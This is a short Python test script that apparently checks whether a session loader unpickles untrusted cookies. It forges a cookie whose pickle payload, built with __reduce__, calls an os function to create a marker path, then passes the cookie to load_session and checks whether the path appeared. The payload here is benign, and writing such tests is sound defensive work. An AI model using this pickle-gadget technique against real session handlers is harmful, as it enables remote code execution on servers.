"""A forged session cookie calls a function of os while it is loaded."""

import base64
import os
import pickle
import random
import string
import sys
from contextlib import suppress
from pathlib import Path

SEED = 0

rng = random.Random(SEED)
marker = "".join(rng.choices(string.ascii_letters, k=rng.randint(4, 9)))
call = rng.choice((os.mkdir, os.makedirs, os.mkfifo))


class Forged:
    """Pickles as a call."""

    def __reduce__(self):
        return call, (marker,)


cookie = base64.urlsafe_b64encode(pickle.dumps(Forged(), rng.randint(0, 5))).decode()

# act
from sessions import load_session

with suppress(ValueError, PermissionError, pickle.UnpicklingError):
    load_session(cookie)

# judge
sys.exit(0 if Path(marker).exists() else 1)
